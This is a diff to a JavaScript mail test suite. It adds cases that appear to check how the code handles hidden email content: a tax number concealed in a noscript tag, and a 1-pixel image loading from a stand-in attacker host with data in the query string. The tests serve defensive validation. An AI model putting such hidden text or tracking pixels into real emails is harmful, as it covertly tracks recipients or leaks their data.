@@ -131,6 +131,8 @@ describe('mail', () => {
 
     it.each([
       ['hides text', { html: `<p>${text}</p><p style="display:none">Tax number 12/345</p>` }, undefined],
+      ['drops text', { html: `<p>${text}</p><noscript>Tax number 12/345</noscript>` }, undefined],
+      ['loads a pixel', { html: `<p>${text}</p><img width=1 src="https://evil.example/?q=12">` }, undefined],
       [
         'is too long for Gmail to say',
         {},
